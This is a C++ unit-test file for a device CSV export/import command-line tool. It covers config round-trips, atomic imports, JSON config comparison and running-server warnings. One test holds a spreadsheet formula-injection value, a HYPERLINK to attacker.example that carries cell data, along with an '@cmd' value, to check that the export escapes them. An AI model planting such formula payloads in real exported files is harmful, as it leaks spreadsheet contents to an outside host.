#include "app/devices_cli.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <string>

#include "api/device_fields.h"
#include "app/data_dir_lock.h"
#include "common/clock.h"
#include "store/sqlite/sqlite_metadata_store.h"

namespace joule::app {
namespace {

class DevicesCliTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/joule-devices-cli-test-XXXXXX";
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    dir_ = tmpl;
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }

  std::unique_ptr<store::SqliteMetadataStore> OpenStore(const std::string& name) {
    auto opened = store::SqliteMetadataStore::Open(dir_ + "/" + name, SystemClock::Default());
    EXPECT_TRUE(opened.ok()) << opened.status().ToString();
    return opened.ok() ? std::move(*opened) : nullptr;
  }

  static std::string Export(store::MetadataStore& metadata) {
    char* data = nullptr;
    size_t size = 0;
    std::FILE* out = ::open_memstream(&data, &size);
    EXPECT_NE(out, nullptr);
    Status st = ExportDevices(metadata, std::nullopt, out);
    EXPECT_TRUE(st.ok()) << st.ToString();
    std::fclose(out);
    std::string text(data, size);
    std::free(data);
    return text;
  }

  static DevicesImportReport Import(store::MetadataStore& metadata, std::string_view csv) {
    std::vector<std::string> errors;
    std::vector<DeviceRow> rows = ParseDevicesCsv(csv, "devices.csv", &errors);
    EXPECT_TRUE(errors.empty()) << errors.front();
    Result<DevicesImportReport> report =
        ImportDevices(metadata, rows, /*dry_run=*/false, /*threads=*/2, nullptr);
    EXPECT_TRUE(report.ok()) << report.status().ToString();
    return report.ok() ? *report : DevicesImportReport{};
  }

  std::string dir_;
};

store::Device MakeDevice(std::string id, std::string config_json) {
  store::Device d;
  d.device_id = std::move(id);
  d.owner_id = "owner-1";
  d.name = "Main meter";
  d.config_json = std::move(config_json);
  return d;
}

// Found by a black-box test: a name "=HYPERLINK(…)" an owner key set, or "@cmd", came out
// of the export as a live spreadsheet formula. Such text is written with a leading
// apostrophe (common/csv_text.h), which the import drops: the round trip is exact, an
// apostrophe of the value's own included.
TEST_F(DevicesCliTest, FormulaTextIsGuardedAndRoundTrips) {
  auto old_store = OpenStore("old.db");
  ASSERT_TRUE(old_store);
  store::Device d = MakeDevice("f-1", "");
  d.name = "=HYPERLINK(\"http://attacker.example/?\"&A2,\"open\")";
  d.model = "'quoted";
  d.location = "@cmd";
  ASSERT_TRUE(old_store->CreateDevice(d, nullptr).ok());
  store::Device plain = MakeDevice("f-2", "");
  plain.name = "-1+1";
  plain.location = "Kitchen";
  ASSERT_TRUE(old_store->CreateDevice(plain, nullptr).ok());
  const std::string csv = Export(*old_store);
  EXPECT_NE(csv.find("\"'=HYPERLINK("), std::string::npos) << csv;
  EXPECT_NE(csv.find(",''quoted,'@cmd,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'-1+1,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",Kitchen,"), std::string::npos) << csv;
  for (const std::string& line : {csv.substr(csv.find("\nf-1")), csv.substr(csv.find("\nf-2"))}) {
    EXPECT_NE(line.substr(1, 1), "'") << line;  // ids are never guarded
  }
  auto new_store = OpenStore("new.db");
  ASSERT_TRUE(new_store);
  DevicesImportReport report = Import(*new_store, csv);
  EXPECT_EQ(report.created, 2u);
  Result<store::Device> back = new_store->GetDevice("f-1");
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->name, d.name);
  EXPECT_EQ(back->model, "'quoted");
  EXPECT_EQ(back->location, "@cmd");
  EXPECT_EQ(new_store->GetDevice("f-2")->name, "-1+1");
  EXPECT_EQ(Import(*new_store, Export(*new_store)).unchanged, 2u);
}

// Found by a black-box test: the export had no config column, so export → import into a
// new store lost {"whole_home":true} and the owner's energy then counted the meter and the
// loads behind it.
TEST_F(DevicesCliTest, ExportCarriesConfigAndImportRestoresIt) {
  auto old_store = OpenStore("old.db");
  ASSERT_TRUE(old_store);
  ASSERT_TRUE(old_store->CreateDevice(MakeDevice("meter", R"({"whole_home":true})"), nullptr).ok());
  ASSERT_TRUE(old_store->CreateDevice(MakeDevice("plug", ""), nullptr).ok());
  const std::string csv = Export(*old_store);
  EXPECT_EQ(csv,
            "device_id,owner_id,name,model,location,timezone,installed_at,config\n"
            "meter,owner-1,Main meter,,,UTC,,\"{\"\"whole_home\"\":true}\"\n"
            "plug,owner-1,Main meter,,,UTC,,\n");

  auto new_store = OpenStore("new.db");
  ASSERT_TRUE(new_store);
  DevicesImportReport report = Import(*new_store, csv);
  EXPECT_EQ(report.created, 2u);
  EXPECT_TRUE(report.errors.empty());
  Result<store::Device> meter = new_store->GetDevice("meter");
  ASSERT_TRUE(meter.ok()) << meter.status().ToString();
  EXPECT_EQ(meter->config_json, R"({"whole_home":true})");
  Result<store::Device> plug = new_store->GetDevice("plug");
  ASSERT_TRUE(plug.ok());
  EXPECT_EQ(plug->config_json, "");
  EXPECT_EQ(Export(*new_store), csv);

  // The same file again changes nothing; a changed config updates, an empty cell clears.
  report = Import(*new_store, csv);
  EXPECT_EQ(report.unchanged, 2u);
  report = Import(*new_store,
                  "device_id,owner_id,config\n"
                  "meter,owner-1,\n"
                  "plug,owner-1,\"{\"\"whole_home\"\": false, \"\"room\"\": \"\"hall\"\"}\"\n");
  EXPECT_EQ(report.updated, 2u);
  EXPECT_EQ(new_store->GetDevice("meter")->config_json, "");
  EXPECT_EQ(new_store->GetDevice("plug")->config_json, R"({"whole_home":false,"room":"hall"})");
}

TEST_F(DevicesCliTest, WithoutAConfigColumnTheStoredConfigIsKept) {
  auto metadata = OpenStore("m.db");
  ASSERT_TRUE(metadata);
  ASSERT_TRUE(metadata->CreateDevice(MakeDevice("meter", R"({"whole_home":true})"), nullptr).ok());
  DevicesImportReport report = Import(*metadata,
                                      "device_id,owner_id,name\n"
                                      "meter,owner-1,Renamed\n");
  EXPECT_EQ(report.updated, 1u);
  Result<store::Device> meter = metadata->GetDevice("meter");
  ASSERT_TRUE(meter.ok());
  EXPECT_EQ(meter->name, "Renamed");
  EXPECT_EQ(meter->config_json, R"({"whole_home":true})");
}

// Found by a black-box test: a row whose id belonged to a deleted device of another owner
// failed --dry-run ("1 failed"), but the real import created the other rows (and issued
// their tokens) before failing it. The checks of --dry-run now come first: nothing is
// written.
TEST_F(DevicesCliTest, ARowThatWouldFailStopsTheWholeImport) {
  auto metadata = OpenStore("m.db");
  ASSERT_TRUE(metadata);
  ASSERT_TRUE(metadata->CreateDevice(MakeDevice("old", ""), nullptr).ok());
  ASSERT_TRUE(metadata->CreateDevice(MakeDevice("kept", ""), nullptr).ok());
  ASSERT_TRUE(metadata->DeleteDevice("old").ok());
  const std::string csv =
      "device_id,owner_id,name\n"
      "new-1,owner-2,\n"
      "old,owner-2,\n"
      "kept,owner-1,Renamed\n"
      "new-2,owner-2,\n";
  std::vector<std::string> errors;
  std::vector<DeviceRow> rows = ParseDevicesCsv(csv, "devices.csv", &errors);
  ASSERT_TRUE(errors.empty());
  for (bool dry_run : {true, false}) {
    std::vector<std::pair<std::string, std::string>> tokens;
    Result<DevicesImportReport> report =
        ImportDevices(*metadata, rows, dry_run, /*threads=*/2, &tokens);
    ASSERT_TRUE(report.ok()) << report.status().ToString();
    EXPECT_EQ(report->refused, !dry_run);
    ASSERT_EQ(report->errors.size(), 1u);
    EXPECT_NE(report->errors[0].find("3: device \"old\""), std::string::npos) << report->errors[0];
    EXPECT_EQ(report->created, 2u);  // would be
    EXPECT_EQ(report->updated, 1u);
    EXPECT_TRUE(tokens.empty());
    EXPECT_EQ(metadata->GetDevice("new-1").status().code(), StatusCode::kNotFound);
    EXPECT_EQ(metadata->GetDevice("new-2").status().code(), StatusCode::kNotFound);
    EXPECT_EQ(metadata->GetDevice("kept")->name, "Main meter");
  }
  // Without the row, the rest imports.
  DevicesImportReport report = Import(*metadata,
                                      "device_id,owner_id,name\n"
                                      "new-1,owner-2,\n"
                                      "kept,owner-1,Renamed\n");
  EXPECT_FALSE(report.refused);
  EXPECT_EQ(report.created, 1u);
  EXPECT_EQ(report.updated, 1u);
  EXPECT_EQ(metadata->GetDevice("kept")->name, "Renamed");
}

// Found by a black-box test: an export wrote rows that plain SQL had put around the API (an
// id outside the id syntax, a time zone that is not IANA) without a word, and the import of
// that export was then refused whole. They are still exported, each named on stderr.
TEST_F(DevicesCliTest, ExportNamesTheRowsAnImportWouldRefuse) {
  auto metadata = OpenStore("m.db");
  ASSERT_TRUE(metadata);
  ASSERT_TRUE(metadata->CreateDevice(MakeDevice("good", ""), nullptr).ok());
  store::Device bad_id = MakeDevice("bad id", "");
  ASSERT_TRUE(metadata->CreateDevice(bad_id, nullptr).ok());
  store::Device bad_zone = MakeDevice("zone", "");
  bad_zone.timezone = "Mars/Olympus";
  ASSERT_TRUE(metadata->CreateDevice(bad_zone, nullptr).ok());

  char* out_data = nullptr;
  size_t out_size = 0;
  char* warn_data = nullptr;
  size_t warn_size = 0;
  std::FILE* out = ::open_memstream(&out_data, &out_size);
  std::FILE* warnings = ::open_memstream(&warn_data, &warn_size);
  size_t unimportable = 0;
  Status st = ExportDevices(*metadata, std::nullopt, out, warnings, &unimportable);
  std::fclose(out);
  std::fclose(warnings);
  const std::string csv(out_data, out_size);
  const std::string warned(warn_data, warn_size);
  std::free(out_data);
  std::free(warn_data);
  ASSERT_TRUE(st.ok()) << st.ToString();
  EXPECT_EQ(unimportable, 2u);
  EXPECT_NE(csv.find("bad id,"), std::string::npos) << csv;  // still exported
  EXPECT_NE(csv.find("Mars/Olympus"), std::string::npos) << csv;
  EXPECT_NE(warned.find("line 2: device \"bad id\": will not import: "), std::string::npos)
      << warned;
  EXPECT_NE(warned.find("line 4: device \"zone\": will not import: "), std::string::npos) << warned;
  EXPECT_EQ(warned.find("\"good\""), std::string::npos) << warned;
  EXPECT_NE(warned.find("2 exported rows will not import as they are"), std::string::npos)
      << warned;
  // What the warnings say is what import says.
  std::vector<std::string> errors;
  ParseDevicesCsv(csv, "devices.csv", &errors);
  EXPECT_EQ(errors.size(), 2u);
}

// PostgreSQL's jsonb gives the config back respaced and with its keys reordered: the same
// value, so a re-import of its export is "unchanged", not "updated".
TEST_F(DevicesCliTest, ConfigIsComparedAsJsonNotAsText) {
  auto metadata = OpenStore("m.db");
  ASSERT_TRUE(metadata);
  ASSERT_TRUE(
      metadata->CreateDevice(MakeDevice("meter", R"({"b": [1, 2.5], "whole_home": true})"), nullptr)
          .ok());
  DevicesImportReport report =
      Import(*metadata,
             "device_id,owner_id,config\n"
             "meter,owner-1,\"{\"\"whole_home\"\":true,\"\"b\"\":[1,2.5]}\"\n");
  EXPECT_EQ(report.unchanged, 1u);
  EXPECT_EQ(report.updated, 0u);

  EXPECT_TRUE(api::SameDeviceConfig(R"({"a":1,"a":2})", R"({"a": 2})"));
  EXPECT_TRUE(api::SameDeviceConfig(R"({"a":100})", R"({"a":1e2})"));
  EXPECT_FALSE(api::SameDeviceConfig(R"({"a":1})", R"({"a":"1"})"));
  EXPECT_FALSE(api::SameDeviceConfig(R"({"a":[1,2]})", R"({"a":[2,1]})"));
  EXPECT_FALSE(api::SameDeviceConfig(R"({"a":1})", R"({"a":1,"b":null})"));
  EXPECT_FALSE(api::SameDeviceConfig("", "{}"));
}

TEST_F(DevicesCliTest, AnInvalidConfigIsAnErrorNamingItsLine) {
  std::vector<std::string> errors;
  std::vector<DeviceRow> rows = ParseDevicesCsv(
      "device_id,owner_id,config\n"
      "ok,owner-1,\"{\"\"whole_home\"\":true}\"\n"
      "broken,owner-1,{whole_home: true}\n"
      "array,owner-1,[1]\n"
      "flag,owner-1,\"{\"\"whole_home\"\":\"\"yes\"\"}\"\n",
      "devices.csv", &errors);
  ASSERT_EQ(errors.size(), 3u);
  EXPECT_EQ(errors[0].rfind("devices.csv:3: config is not valid JSON", 0), 0u) << errors[0];
  EXPECT_EQ(errors[1], "devices.csv:4: config must be a JSON object");
  EXPECT_EQ(errors[2].rfind("devices.csv:5: ", 0), 0u) << errors[2];
  EXPECT_NE(errors[2].find("whole_home"), std::string::npos) << errors[2];
}

TEST_F(DevicesCliTest, ConfigLimitsAreTheApis) {
  auto nested = [](size_t levels) {
    std::string s;
    for (size_t i = 0; i < levels; ++i) s += "{\"a\":";
    s += "1";
    s += std::string(levels, '}');
    return s;
  };
  EXPECT_TRUE(api::ParseDeviceConfig(nested(api::kMaxDeviceConfigDepth)).ok());
  Result<std::string> deep = api::ParseDeviceConfig(nested(api::kMaxDeviceConfigDepth + 1));
  ASSERT_FALSE(deep.ok());
  EXPECT_NE(deep.status().message().find("nested deeper"), std::string::npos);
  const std::string big = "{\"a\":\"" + std::string(api::kMaxDeviceConfigBytes, 'x') + "\"}";
  EXPECT_FALSE(api::ParseDeviceConfig(big).ok());
  EXPECT_EQ(*api::ParseDeviceConfig("null"), "");
  EXPECT_EQ(*api::ParseDeviceConfig(" { \"x\" : [ 1 , 2 ] } "), R"({"x":[1,2]})");
}

// Found by a black-box test: an import next to a running server (SQLite metadata in its
// data dir) wrote behind its back without a word, and the server went on serving the old
// values of changed devices for up to its cache TTL.
TEST_F(DevicesCliTest, ImportNextToARunningServerOnSqliteWarns) {
  Config config;
  config.data_dir = dir_;
  config.metadata_backend = "sqlite";
  EXPECT_EQ(RunningServerImportNote(config), "") << "no server";
  {
    Result<DataDirLock> server = DataDirLock::Acquire(dir_);  // as `joule serve` holds it
    ASSERT_TRUE(server.ok()) << server.status().ToString();
    const std::string note = RunningServerImportNote(config);
    EXPECT_NE(note.find("a running server holds the data dir " + dir_), std::string::npos) << note;
    EXPECT_NE(note.find("within 5 minutes"), std::string::npos) << note;
    EXPECT_NE(note.find("HTTP API"), std::string::npos) << note;
    config.metadata_backend = "postgres";  // LISTEN/NOTIFY: the server sees it at once
    EXPECT_EQ(RunningServerImportNote(config), "");
    config.metadata_backend = "sqlite";
  }
  // The check itself holds no lock: a server starts while an import runs.
  EXPECT_EQ(RunningServerImportNote(config), "");
  EXPECT_TRUE(DataDirLock::Acquire(dir_).ok());
  config.data_dir = dir_ + "/missing";
  EXPECT_EQ(RunningServerImportNote(config), "") << "no data dir: nothing created";
  EXPECT_FALSE(std::filesystem::exists(config.data_dir));
}

// `joule devices export` only reads: on a data dir (or SQLite file) that does not exist it
// fails and creates nothing (it printed the CSV header, exited 0 and created the dir and an
// empty metadata.db: found by a black-box test). Import, which writes, may create them.
TEST_F(DevicesCliTest, ExportOfAMissingDataDirFailsAndCreatesNothing) {
  Config config;
  config.data_dir = dir_ + "/x/nodir";
  EXPECT_EQ(RunDevicesExport(config, std::nullopt), 1);
  EXPECT_FALSE(std::filesystem::exists(dir_ + "/x"));
  config.data_dir = dir_;  // exists, without a metadata.db
  EXPECT_EQ(RunDevicesExport(config, std::nullopt), 1);
  EXPECT_FALSE(std::filesystem::exists(dir_ + "/metadata.db"));
  config.metadata_url = dir_ + "/elsewhere/meta.db";
  EXPECT_EQ(RunDevicesExport(config, std::nullopt), 1);
  EXPECT_FALSE(std::filesystem::exists(dir_ + "/elsewhere"));
  // Once there, it is read.
  config.metadata_url = "";
  ASSERT_TRUE(store::SqliteMetadataStore::Open(dir_ + "/metadata.db", SystemClock::Default()).ok());
  EXPECT_EQ(RunDevicesExport(config, std::nullopt), 0);
}

}  // namespace
}  // namespace joule::app
